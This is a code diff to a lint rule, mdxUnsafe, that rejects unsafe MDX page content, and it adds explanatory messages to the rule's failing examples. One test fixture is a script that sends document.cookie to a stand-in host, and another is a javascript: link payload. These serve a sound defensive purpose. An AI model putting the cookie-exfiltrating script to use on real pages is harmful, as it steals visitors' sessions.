@@ -16,9 +16,21 @@ export const mdxUnsafe: Rule = {
 	next: FILE_PROBLEMS,
 	examples: {
 		fails: [
-			{ title: 'a script', files: sopBodyWith('<script>fetch("https://example.com/?c=" + document.cookie)</script>') },
-			{ title: 'code in braces', files: sopBodyWith('Today is {new Date().toDateString()}.') },
-			{ title: 'a `javascript:` link', files: sopBodyWith('[Open the portal](javascript:alert(1))') },
+			{
+				title: 'a script',
+				files: sopBodyWith('<script>fetch("https://example.com/?c=" + document.cookie)</script>'),
+				message: "uses a <script>, which would run in readers' browsers.",
+			},
+			{
+				title: 'code in braces',
+				files: sopBodyWith('Today is {new Date().toDateString()}.'),
+				message: 'runs code: {new Date().toDateString()}. A page may hold only comments in braces.',
+			},
+			{
+				title: 'a `javascript:` link',
+				files: sopBodyWith('[Open the portal](javascript:alert(1))'),
+				message: 'links to "javascript:…", an address that would run script or hide content in readers\' browsers.',
+			},
 		],
 		passes: [{ title: 'a comment and an ordinary link', files: sopBodyWith('{/* Checked with the pod lead. */}\n[Open the portal](https://portal.example.com/)') }],
 	},
